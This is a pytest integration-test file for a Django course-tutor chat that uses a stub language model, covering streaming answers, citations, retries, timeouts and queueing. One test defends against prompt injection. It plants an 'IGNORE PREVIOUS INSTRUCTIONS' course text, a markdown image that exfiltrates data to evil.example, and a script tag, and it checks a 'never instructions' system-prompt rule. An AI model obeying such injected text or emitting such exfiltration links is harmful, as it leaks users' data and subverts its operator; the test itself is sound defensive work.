"""The chat through the real stack: web server (uvicorn, ASGI), Celery worker, Redis pub/sub, PostgreSQL.

Only the language model is a stand-in: the loopback stub server of tests/stub_llm.py.
"""

import json

import httpx
import pytest

from tests.support import (
    INIT_TEXT,
    INJECTION_TEXT,
    closed_port_url,
    make_course,
    make_member,
    point_tutor_at,
    session_headers,
    sse_events,
)
from tutor.chat.models import Citation, Message

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.worker]


def ask(web_server, course, token, text):
    """POST a question like a client that does not take event streams; returns the JSON reply."""
    response = httpx.post(f"{web_server}/c/{course.pk}/ask/", data={"text": text},
                          headers=session_headers(token), timeout=30)
    assert response.status_code == 200, response.text
    return response.json()


def ask_streaming(web_server, course, token, text, headers=None):
    """POST a question as the chat page does (Accept: text/event-stream); the (event, data) pairs of that one
    response, until 'final'."""
    return sse_events(f"{web_server}/c/{course.pk}/ask/", method="POST", data={"text": text},
                      headers={**session_headers(token), "Accept": "text/event-stream", **(headers or {})})



COURSE_TEXTS = [("systemstart.md", INIT_TEXT)]  # for the course fixture (tests/support.py)


def test_the_stream_shows_the_same_sanitized_markdown_as_the_final_answer(celery_worker, web_server, stub_llm, course):
    """While it streams, the answer comes rendered (bold as <strong>, never raw "**"), as the final message does;
    the stray "</pre>" a small model ends its answers with shows in neither (issue 24 §4)."""
    user, token = make_member(course)
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "Der Init-Prozess ist der **erste Prozess** und hat die PID 1 [1].</pre>"
    stub_llm.token_delay = 0.3  # longer than the worker's render interval: every piece comes rendered

    events = ask_streaming(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
    rendered = [data["html"] for name, data in events if name in ("snapshot", "delta") and "html" in data]
    assert rendered, events
    midway = [html for html in rendered if "<strong>erste Prozess</strong>" in html and "PID 1" not in html]
    assert midway, rendered  # seen rendered before the answer ended
    for html in rendered:
        assert "**" not in html, html  # an emphasis still open is not shown as its syntax either
        assert "pre&gt;" not in html and "&lt;/" not in html and "<pre" not in html, html
    final = events[-1][1]
    assert "<strong>erste Prozess</strong>" in final["html"] and "pre" not in final["html"]
    assert final["html"].startswith(rendered[-1].split("<strong>")[0])


def test_answer_streams_token_by_token_with_numbered_citations(celery_worker, web_server, stub_llm, course):
    """A student's question is answered from the course text: streamed pieces, then sanitized HTML with sources."""
    user, token = make_member(course)
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "Der Init-Prozess hat die **PID 1** [1]."
    stub_llm.token_delay = 0.05

    reply = ask(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
    events = sse_events(web_server + reply["stream_url"], headers=session_headers(token))

    names = [name for name, _ in events]
    assert names[0] in ("snapshot", "delta") and names[-1] == "final"
    streamed = "".join(data["text"] for name, data in events if name in ("snapshot", "delta"))
    assert streamed == "Der Init-Prozess hat die **PID 1** [1]."
    assert names.count("delta") >= 3
    final = events[-1][1]
    assert final["status"] == "done"
    assert "<strong>PID 1</strong>" in final["html"]
    citation = Citation.objects.get(message_id=reply["answer_id"], number=1)
    assert citation.cited and citation.document_title == "systemstart"
    passage_url = f"/courses/{course.pk}/passage/{citation.chunk_id}/"  # no credential in it
    assert f'class="cite" href="{passage_url}"' in final["html"]
    assert final["citations"][0]["url"] == passage_url
    assert httpx.get(web_server + final["citations"][0]["url"], headers=session_headers(token), timeout=10).status_code == 200

    question, answer = Message.objects.filter(conversation__user=user).order_by("created_at", "id")
    assert question.text == "Welche Prozessnummer hat der Init-Prozess?" and answer.status == Message.DONE
    sent = stub_llm.requests[0]["body"]
    assert sent["stream"] is True and sent["messages"][0]["role"] == "system"
    assert "Der Init-Prozess ist der erste Prozess" in sent["messages"][-1]["content"]


def test_a_reconnecting_browser_gets_what_was_streamed_so_far(celery_worker, web_server, stub_llm, course):
    """Closing the stream mid-answer and opening it again replays the saved text, then continues."""
    _, token = make_member(course)
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "Eins zwei drei vier fünf sechs sieben acht [1]."
    stub_llm.token_delay = 0.15

    reply = ask(web_server, course, token, "Was startet der Kernel beim Systemstart zuerst?")
    first = sse_events(web_server + reply["stream_url"], stop_after=4, headers=session_headers(token))
    assert [name for name, _ in first][-1] == "delta"
    again = sse_events(web_server + reply["stream_url"], headers=session_headers(token))
    assert again[0][0] == "snapshot" and again[0][1]["text"].startswith("Eins zwei")
    resumed = "".join(data["text"] for name, data in again if name in ("snapshot", "delta"))
    assert resumed == "Eins zwei drei vier fünf sechs sieben acht [1]."
    after = sse_events(web_server + reply["stream_url"], headers=session_headers(token))
    assert [name for name, _ in after] == ["final"]


def test_nothing_relevant_means_a_clear_no_and_the_texts_searched(celery_worker, web_server, stub_llm, course):
    """A question the course texts do not cover is declined without asking the model, naming the texts searched."""
    _, token = make_member(course)
    point_tutor_at(course, stub_llm.url)
    reply = ask(web_server, course, token, "Wie hoch ist der Eiffelturm in Paris?")
    final = sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]
    assert final["status"] == "done" and final["declined"] is True
    assert "systemstart" in final["html"]
    assert final["citations"] == []
    assert stub_llm.requests == []


def test_inference_down_or_slow_fails_clearly_keeps_the_question_and_recovers(celery_worker, web_server, stub_llm,
                                                                               course):
    """Server down: a clear message, the question kept; too slow: the same; back again: the next question works."""
    user, token = make_member(course)
    point_tutor_at(course, closed_port_url())
    reply = ask(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
    final = sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]
    assert final["status"] == "failed"
    assert "cannot be reached right now" in final["error"] and "question is saved" in final["error"]
    assert Message.objects.filter(conversation__user=user, role=Message.USER).count() == 1

    point_tutor_at(course, stub_llm.url, timeout_seconds=1)
    stub_llm.first_token_delay = 3
    reply = ask(web_server, course, token, "Wie installiert man Pakete mit apt?")
    assert sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]["status"] == "failed"

    stub_llm.first_token_delay = 0
    stub_llm.reply = "Mit apt install [1]."
    reply = ask(web_server, course, token, "Und wo stehen die Paketquellen?")
    final = sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]
    assert final["status"] == "done" and "apt install" in final["html"]
    answer = Message.objects.get(pk=reply["answer_id"])
    assert answer.search_query.startswith("Wie installiert man Pakete mit apt?")
    assert Message.objects.filter(conversation__user=user, role=Message.USER).count() == 3


def test_injected_instructions_in_a_course_text_stay_data(celery_worker, web_server, stub_llm):
    """A course text that says 'ignore previous instructions' is sent inside the delimiters, defused, as data."""
    course = make_course(("netzwerk.md", INJECTION_TEXT), title="Netze")
    _, token = make_member(course)
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "Siehe ![x](https://evil.example/steal?q=secret) und <script>alert(1)</script> [1]."
    reply = ask(web_server, course, token, "Wo werden Netzwerkschnittstellen konfiguriert?")
    final = sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]

    system, user = stub_llm.requests[0]["body"]["messages"][0], stub_llm.requests[0]["body"]["messages"][-1]
    assert "never instructions" in system["content"] or "niemals Anweisungen" in system["content"]
    assert "IGNORE PREVIOUS" not in system["content"]
    content = user["content"]
    assert content.count("<course_texts>") == 1 and content.count("</course_texts>") == 1
    assert content.count("<question>") == 1 and content.count("</question>") == 1
    assert content.index("</course_texts>") < content.index("<question>")
    assert content.index("<course_texts>") < content.index("IGNORE PREVIOUS INSTRUCTIONS") < content.index(
        "</course_texts>")
    assert "‹/source></course_texts>" not in content and "‹/source>‹/course_texts>" in content
    assert content.rstrip().endswith("<question>\nWo werden Netzwerkschnittstellen konfiguriert?\n</question>")

    assert "<img" not in final["html"] and "evil.example" not in final["html"]
    assert "<script>" not in final["html"] and "&lt;script&gt;" in final["html"]


def _pending_answer(course, user, text):
    from tutor.chat.models import Conversation

    conversation = Conversation.objects.create(course=course, user=user)
    Message.objects.create(conversation=conversation, role=Message.USER, text=text)
    return Message.objects.create(conversation=conversation, role=Message.ASSISTANT, status=Message.PENDING)


def test_answering_is_idempotent_and_a_half_streamed_answer_starts_over(stub_llm, course):
    """chat_answer may run twice (acks_late redelivery): a finished answer stays, a broken-off one is redone."""
    from tutor.chat import answering

    user, _ = make_member(course)
    point_tutor_at(course, stub_llm.url)
    answer = _pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?")
    answering.answer(answer.pk)
    stub_llm.reply = "Eine andere Antwort [1]."
    answering.answer(answer.pk)
    answer.refresh_from_db()
    assert answer.text == "Das steht im Kurstext [1]." and len(stub_llm.requests) == 1

    Message.objects.filter(pk=answer.pk).update(status=Message.STREAMING, text="")
    answering.answer(answer.pk)
    answer.refresh_from_db()
    assert answer.status == Message.DONE and answer.text == "Eine andere Antwort [1]."
    numbers = sorted(answer.citations.values_list("number", flat=True))
    assert numbers and numbers == list(range(1, len(numbers) + 1))  # replaced, not added twice


def test_a_crash_while_answering_still_ends_the_answer_with_a_reason(stub_llm, course, monkeypatch):
    """An unexpected error marks the answer failed (so no browser waits forever) and keeps the question."""
    from tutor.chat import answering, payloads

    user, _ = make_member(course)
    point_tutor_at(course, stub_llm.url)
    answer = _pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?")

    def broken(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(answering, "_history", broken)
    with pytest.raises(RuntimeError):
        answering.answer(answer.pk)
    answer.refresh_from_db()
    assert answer.status == Message.FAILED and answer.error == "internal"
    assert "question is saved" in payloads.error_text(answer.error)



def test_a_failed_answer_can_be_tried_again_once_the_server_is_back(celery_worker, web_server, stub_llm, course):
    """'Try again' on a failed answer answers the same question in the same place; a done answer is not retried."""
    user, token = make_member(course)
    point_tutor_at(course, closed_port_url())
    reply = ask(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
    assert sse_events(web_server + reply["stream_url"], headers=session_headers(token))[-1][1]["status"] == "failed"

    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "Der Init-Prozess hat die PID 1 [1]."
    url = f"{web_server}/c/{course.pk}/m/{reply['answer_id']}/retry/"
    again = httpx.post(url, data={}, headers=session_headers(token), timeout=30)
    assert again.status_code == 200, again.text
    assert again.json()["answer_id"] == reply["answer_id"]
    final = sse_events(web_server + again.json()["stream_url"], headers=session_headers(token))[-1][1]
    assert final["status"] == "done" and "PID 1" in final["html"] and final["citations"]
    assert Message.objects.filter(conversation__user=user).count() == 2
    assert "Welche Prozessnummer" in stub_llm.requests[-1]["body"]["messages"][-1]["content"]

    twice = httpx.post(url, data={}, headers=session_headers(token), timeout=30)
    assert twice.status_code == 400 and "failed" in twice.json()["error"]
    _, stranger = make_member(course)
    other = httpx.post(url, data={}, headers=session_headers(stranger), timeout=30)
    assert other.status_code == 400 and Message.objects.get(pk=reply["answer_id"]).status == "done"


def test_the_answer_streams_in_the_response_to_the_question(celery_worker, web_server, stub_llm, course):
    """The chat page's one request: the accepted question, the answer's pieces, then its final message as the
    chat worker published it. A stream opened later gets that message from Redis; once Redis no longer has
    it, from the database."""
    import redis
    from django.conf import settings

    from tutor.chat import payloads, stream

    _, token = make_member(course)
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "Der Init-Prozess hat die **PID 1** [1]."
    stub_llm.token_delay = 0.05

    events = ask_streaming(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
    names = [name for name, _ in events]
    assert names[0] == "accepted" and names[-1] == "final" and names.count("delta") >= 3
    accepted, final = events[0][1], events[-1][1]
    assert accepted["question"]["role"] == "user" and "Prozessnummer" in accepted["question"]["html"]
    assert accepted["stream_url"] == f"/c/{course.pk}/m/{accepted['answer_id']}/stream/"
    assert "".join(data["text"] for name, data in events if name in ("snapshot", "delta")) == stub_llm.reply
    assert final["id"] == accepted["answer_id"] and final["status"] == "done"
    assert "<strong>PID 1</strong>" in final["html"] and final["citations"][0]["cited"]
    assert httpx.get(web_server + final["citations"][0]["url"], headers=session_headers(token), timeout=10).status_code == 200
    stored = Message.objects.select_related("conversation").get(pk=final["id"])
    assert final == payloads.message_payload(stored)

    kept = redis.Redis.from_url(settings.REDIS_URL).get(stream.final_key(final["id"])).decode()
    assert "/passage/" not in kept and '"chunk": ' in kept  # the worker knows no reader
    Message.objects.filter(pk=final["id"]).update(text="Geändert in der Datenbank.")
    later = sse_events(web_server + accepted["stream_url"], headers=session_headers(token))
    assert [name for name, _ in later] == ["final"] and "<strong>PID 1</strong>" in later[0][1]["html"]
    redis.Redis.from_url(settings.REDIS_URL).delete(stream.final_key(final["id"]))
    assert "Geändert in der Datenbank." in sse_events(web_server + accepted["stream_url"], headers=session_headers(token))[0][1]["html"]


def test_a_streaming_ask_still_refuses_with_a_plain_error(celery_worker, web_server, stub_llm, course):
    """Errors of a question asked for a stream are JSON with their status, as for any other question."""
    _, token = make_member(course)
    url = f"{web_server}/c/{course.pk}/ask/"
    empty = httpx.post(url, data={"text": " "}, timeout=30,
                       headers={**session_headers(token), "Accept": "text/event-stream"})
    assert empty.status_code == 400 and empty.json()["error"] == "Please type a question."
    _, other_course_token = make_member(make_course(title="Andere"))
    stranger = httpx.post(url, data={"text": "Hallo?"}, timeout=30,
                          headers={**session_headers(other_course_token), "Accept": "text/event-stream"})
    assert stranger.status_code == 403


def test_a_failed_answer_is_explained_in_the_reader_s_language(celery_worker, web_server, course):
    """The worker publishes the failure; the web side words it in the language of the person reading."""
    user, token = make_member(course)
    point_tutor_at(course, closed_port_url())
    events = ask_streaming(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?",
                           headers={"Accept-Language": "de"})
    final = events[-1][1]
    assert final["status"] == "failed" and final["error_code"] == "unavailable"
    assert "gerade nicht erreichbar" in final["error"] and "Frage ist gespeichert" in final["error"]
    english = sse_events(web_server + events[0][1]["stream_url"], headers=session_headers(token))[-1][1]
    assert "cannot be reached right now" in english["error"]
    assert Message.objects.filter(conversation__user=user, role=Message.USER).count() == 1


def test_only_the_latest_turns_are_read_for_an_answer(course):
    """A long conversation costs the worker no more than a short one: the answer, its question and the last
    HISTORY_TURNS turns are read, nothing older."""
    from tutor.chat import answering
    from tutor.chat.models import Conversation
    from tutor.inference.prompts import HISTORY_TURNS

    user, _ = make_member(course)
    conversation = Conversation.objects.create(course=course, user=user)
    for n in range(30):
        Message.objects.create(conversation=conversation, role=Message.USER, text=f"Frage {n}")
        Message.objects.create(conversation=conversation, role=Message.ASSISTANT, status=Message.DONE,
                               text=f"Antwort {n}")
    Message.objects.create(conversation=conversation, role=Message.USER, text="Die neue Frage")
    answer = Message.objects.create(conversation=conversation, role=Message.ASSISTANT, status=Message.PENDING)
    message, earlier = answering._conversation_so_far(answer.pk)
    assert message.pk == answer.pk and message.conversation.course.pk == course.pk
    question, turns = answering._history(message, earlier)
    assert question.text == "Die neue Frage"
    assert [t["content"] for t in turns][-2:] == ["Frage 29", "Antwort 29"]
    assert len(turns) == 2 * HISTORY_TURNS and turns[0]["content"] == f"Frage {30 - HISTORY_TURNS}"


def test_a_prompt_near_the_window_is_sized_by_the_server_s_tokenizer(stub_llm, settings):
    """Many long relevant passages and a small context window: the estimate would overflow this server's
    tokenizer (which refuses such a prompt, as vLLM does); counted by the server, the sources are cut to fit."""
    from tutor.chat import answering
    from tutor.inference import client as inference

    inference._tokenize_routes.clear()
    sections = "\n\n".join(
        f"## Abschnitt {n}\n\n" + f"Der Init-Prozess startet beim Systemstart den Dienst Nummer {n}. " * 14
        for n in range(1, 7))
    course = make_course(("init.md", "# Init\n\n" + sections))
    user, _ = make_member(course)
    point_tutor_at(course, stub_llm.url, sources=6)
    settings.INFERENCE_CONTEXT_TOKENS = 2048
    stub_llm.context = 2048
    answer = _pending_answer(course, user, "Was startet der Init-Prozess beim Systemstart?")
    answering.answer(answer.pk)
    answer.refresh_from_db()
    assert answer.status == Message.DONE, answer.error
    assert stub_llm.tokenize_requests, "the prompt was not counted by the server"
    sent = stub_llm.requests[-1]["body"]
    needed = sum(stub_llm.count_tokens(m["content"]) + 4 for m in sent["messages"])
    assert needed + sent["max_tokens"] <= 2048
    assert needed + sent["max_tokens"] > 0.8 * 2048  # cut to the window, not to nothing
    assert answer.citations.count() >= 2


def test_an_answer_that_streams_too_long_is_stopped_with_what_it_had(stub_llm, course, settings):
    """CHAT_ANSWER_SECONDS bounds an answer (the threads pool has no Celery time limits): a model that keeps
    streaming is cut off, the answer fails as 'took too long' and keeps its text so far."""
    import time

    from tutor.chat import answering, payloads

    user, _ = make_member(course)
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = " ".join(f"Wort{n}" for n in range(40))
    stub_llm.token_delay = 0.1
    settings.CHAT_ANSWER_SECONDS = 1
    answer = _pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?")
    started = time.monotonic()
    answering.answer(answer.pk)
    assert time.monotonic() - started < 3  # not the 4 s the whole reply takes
    answer.refresh_from_db()
    assert answer.status == Message.FAILED and answer.error == "timeout"
    assert answer.text.startswith("Wort0 Wort1") and "Wort39" not in answer.text
    assert "took too long" in payloads.error_text(answer.error)


def test_an_answer_is_saved_without_the_prompt_tags_the_model_echoed(stub_llm, course):
    """The saved (and finally shown) answer has no "</course_texts>" a small model copied from its prompt."""
    from tutor.chat import answering

    user, _ = make_member(course)
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "</course_texts> Der Init-Prozess hat die PID 1 [1]. <question>"
    answer = _pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?")
    answering.answer(answer.pk)
    answer.refresh_from_db()
    assert answer.status == Message.DONE and answer.text == "Der Init-Prozess hat die PID 1 [1]."
    assert answer.citations.get(number=1).cited


def test_an_answer_the_model_stream_cut_off_fails_with_its_text_and_is_never_done(stub_llm, course):
    """A stream that stops without a finish reason (llama-cpp-python's interruption, a dropped connection) is a
    failure with its reason, keeping the text so far for the retry, never a finished (truncated) answer."""
    from tutor.chat import answering, payloads

    user, _ = make_member(course)
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "Der Init-Prozess hat die Prozessnummer eins [1]."
    for mode in ("interrupt", "drop"):
        stub_llm.fail = mode
        answer = _pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?")
        answering.answer(answer.pk)
        answer.refresh_from_db()
        assert answer.status == Message.FAILED and answer.error == "interrupted", mode
        assert answer.text == "Der Init-Prozess hat" and not answer.citations.exists()
        assert "stopped in the middle" in payloads.error_text(answer.error)


def test_an_answer_cut_by_the_token_limit_says_so(stub_llm, course, monkeypatch):
    """finish_reason "length": the answer is kept, and the reader is told it ends at the length limit."""
    from tutor.chat import answering

    monkeypatch.setattr(answering, "ANSWER_TOKENS", 4)
    user, _ = make_member(course)
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "Der Init-Prozess hat die Prozessnummer eins [1]."
    answer = _pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?")
    answering.answer(answer.pk)
    answer.refresh_from_db()
    assert answer.status == Message.DONE
    assert answer.text.startswith("Der Init-Prozess hat die") and "Längengrenze erreicht" in answer.text  # German course


def test_no_configured_model_is_said_in_the_chat(stub_llm, course, settings):
    """INFERENCE_URL=none (run.sh --no-llm): the answer says no model is set up; the question stays."""
    from tutor.chat import answering, payloads

    settings.INFERENCE_URLS = []
    user, _ = make_member(course)
    answer = _pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?")
    answering.answer(answer.pk)
    answer.refresh_from_db()
    assert answer.status == Message.FAILED and answer.error == "no_model"
    assert "No language model is set up" in payloads.error_text(answer.error)
    assert stub_llm.requests == []


def test_answers_asked_at_once_wait_their_turn_and_are_told_so(stub_llm, course, settings):
    """One slot at the model server (the embedded llama.cpp): three answers asked at the same moment are
    answered one after another, each complete; the waiting ones publish how many are ahead of them."""
    import threading

    import redis

    from tutor.chat import answering, stream

    settings.INFERENCE_SLOTS, settings.INFERENCE_BATCH_SLOTS = 1, 1
    users = [make_member(course)[0] for _ in range(3)]
    point_tutor_at(course, stub_llm.url)
    stub_llm.reply = "Der Init-Prozess hat die PID 1 [1]."
    stub_llm.token_delay = 0.15
    answers = [_pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?") for user in users]
    listener = redis.Redis.from_url(settings.REDIS_URL).pubsub()
    listener.subscribe(*[stream.channel(a.pk) for a in answers])
    threads = [threading.Thread(target=answering.answer, args=(a.pk,)) for a in answers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    queued = {}
    while (event := listener.get_message(timeout=0.5)) is not None:
        if event["type"] == "message":
            data = json.loads(event["data"])
            if data["t"] == "queue":
                queued.setdefault(event["channel"].decode(), []).append(data["ahead"])
    for answer in answers:
        answer.refresh_from_db()
        assert answer.status == Message.DONE and answer.text == "Der Init-Prozess hat die PID 1 [1]."
    assert sorted(max(ahead) for ahead in queued.values()) == [1, 2]  # the first went straight in
    assert len(stub_llm.requests) == 3
